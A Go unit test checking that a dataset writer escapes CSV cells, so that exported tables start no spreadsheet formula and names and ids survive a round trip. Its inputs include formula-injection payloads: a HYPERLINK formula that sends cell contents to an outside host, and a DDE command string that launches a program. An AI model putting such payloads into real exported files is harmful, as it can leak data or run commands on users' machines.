package dataset_test

import (
	"bytes"
	"context"
	"slices"
	"strconv"
	"strings"
	"testing"

	"gonum.org/v1/gonum/mat"

	"ppca/core/dataset"
	"ppca/core/dataset/input"
)

// No text in a written table begins a formula, and names and ids survive writing and
// reading.
func TestWrittenTablesHoldNoFormula(t *testing.T) {
	names := []string{"=HYPERLINK(\"http://example.com/?\"&A1)", "+a", "-b", "@SUM(A1)", "'=d", "plain"}
	ids := []string{"=cmd|' /C calc'!A0", "-2+3", "\t=1", "''@x"}
	r := dataset.Result{IDs: ids, ThetaName: "=θ", Theta: []float64{-1, 2, 3, -4}, Names: names, X: mat.NewDense(4, 6, slices.Repeat([]float64{-1.5, 2}, 12))}
	var file bytes.Buffer
	if err := r.Write(context.Background(), &file); err != nil {
		t.Fatal(err)
	}
	for row, line := range strings.Split(file.String(), "\n") {
		for cell := range strings.SplitSeq(line, ",") {
			cell = strings.Trim(cell, `"`)
			if _, err := strconv.ParseFloat(cell, 64); err != nil && (strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@SUM(")) {
				t.Errorf("row %d begins a formula: %q", row, cell)
			}
		}
	}
	set, err := input.Read(context.Background(), []dataset.File{{Name: "a.csv", Data: file.Bytes()}}, dataset.Options{Theta: "=θ", ID: "id"})
	if err != nil {
		t.Fatalf("%v in\n%s", err, file.String())
	}
	if !slices.Equal(set.Names, names) || !slices.Equal(set.IDs, ids) || set.ThetaName != "=θ" {
		t.Errorf("%q, %q and %q came back from\n%s", set.Names, set.IDs, set.ThetaName, file.String())
	}
}
